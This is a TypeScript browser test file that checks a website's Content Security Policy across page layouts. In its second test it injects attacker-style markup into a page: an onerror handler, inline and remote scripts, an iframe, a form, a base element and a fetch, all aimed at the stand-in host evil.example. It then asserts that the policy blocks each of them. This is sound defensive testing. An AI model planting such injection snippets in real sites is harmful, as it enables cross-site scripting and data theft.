import type { Page } from 'playwright-core'
import { describe, expect, test } from 'vitest'
import { useChromium, visit } from '../browser/chromium.ts'
import { pageTypes } from '../site/page-types.ts'
import { startForeignSite } from './foreign-site.ts'

useChromium()
const base = await startForeignSite()

declare global {
  interface Window {
    tellViolation: (violation: string) => Promise<void>
  }
}

/**
 * Gathers what the policy refuses, from the first byte of each page on, also of a page that is left
 * meanwhile; tells what is new.
 */
async function watch(page: Page): Promise<() => string[]> {
  const found: string[] = []
  page.on(
    'console',
    (message) =>
      /content security policy|refused to/i.test(message.text()) && found.push(message.text()),
  )
  await page.exposeFunction('tellViolation', (violation: string) => void found.push(violation))
  await page.addInitScript(() => {
    document.addEventListener(
      'securitypolicyviolation',
      ({ violatedDirective, blockedURI, sourceFile, lineNumber }) =>
        window.tellViolation(`${violatedDirective} ${blockedURI} (${sourceFile}:${lineNumber})`),
    )
  })
  return () => found.splice(0)
}

/**
 * What a visitor may do on any page: a key, a look at what is alive, a press on the first button
 * that sends no form: that would lead to another page.
 */
async function interact(page: Page): Promise<void> {
  await page.keyboard.press('Tab')
  const alive = page.locator('x-island :is(button, input, select, a):visible').first()
  if (await alive.count()) {
    await alive.focus()
    await page.locator('x-island[ready]').first().waitFor({ state: 'attached' })
  }
  // Not by the pointer: the page's clock stands still, and with it what a pointer waits for.
  await page.evaluate(
    () =>
      void Promise.resolve().then(() =>
        document.querySelector<HTMLElement>('main button[type=button]')?.click(),
      ),
  )
}

/**
 * Each layout that has scripts or islands of its own; every page type without third parties is
 * visited in tests/browser/page-types-*.test.ts.
 */
const types = pageTypes.filter(({ name }) =>
  /^(?:home|pricing|download|article|help centre|faq|partners|pre-sales|cookies|contact|error 502|not found)$/.test(
    name,
  ),
)

describe('a browser has nothing to refuse with every third party on', () => {
  test('each layout with an interaction', { timeout: 300_000 }, () =>
    visit({ baseURL: base }, async (page, context) => {
      await context.addCookies([{ name: 'consent', value: 'granted', url: base }])
      const hosts = new Set<string>()
      // Nothing here may reach out; what would be asked of others is noted.
      await page.route(
        (url) => url.origin !== new URL(base).origin,
        (route) => {
          hosts.add(new URL(route.request().url()).host)
          return route.fulfill({
            contentType:
              route.request().resourceType() === 'image' ? 'image/png' : 'text/javascript',
            body: '',
          })
        },
      )
      const refused = await watch(page)
      await page.clock.install()
      const found: string[] = []
      for (const { name, path } of types) {
        await page.goto(path, { waitUntil: 'domcontentloaded', timeout: 60_000 })
        // One-tap starts after 3 s, statistics are sent after 10 s; the failure page leads away
        // after 5 s.
        await page.clock.runFor(name === 'error 502' ? 4000 : 11_000)
        // Its button leads back.
        if (name !== 'error 502') await interact(page)
        found.push(...refused().map((each) => `${path}: ${each}`))
      }
      await page.goto('/pricing')
      await page.locator('[data-support]').first().click()
      await expect
        .poll(() => [...hosts].sort())
        .toEqual([
          'accounts.google.com',
          'count.example',
          'events.example',
          'plugin-code.salesmartly.com',
        ])
      expect([...found, ...refused()]).toEqual([])
    }),
  )

  test('what an attacker would add is refused, and seen to be refused here', () =>
    visit({ baseURL: base }, async (page) => {
      const refused = await watch(page)
      await page.goto('/pricing')
      await page.evaluate(() => {
        const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html)
        add(
          '<img src="x:" onerror="window.hit = 1"><p style="color:red">x</p><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><button id="out">x</button></form>',
        )
        const script = document.createElement('script')
        script.textContent = 'window.hit = 2'
        const other = document.createElement('script')
        other.src = 'https://evil.example/x.js'
        const root = document.createElement('base')
        root.href = 'https://evil.example/'
        document.head.append(script, other, root)
        document.getElementById('out')?.click()
        void fetch('https://evil.example/').catch(() => undefined)
      })
      const seen = new Set<string | undefined>()
      await expect
        .poll(() => {
          for (const violation of refused()) seen.add(violation.split(' ')[0])
          return [
            'script-src-attr',
            'script-src-elem',
            'style-src-attr',
            'frame-src',
            'connect-src',
            'base-uri',
            'form-action',
          ].filter((name) => !seen.has(name))
        })
        .toEqual([])
      expect(await page.evaluate(() => (window as { hit?: number }).hit)).toBeUndefined()
    }))
})
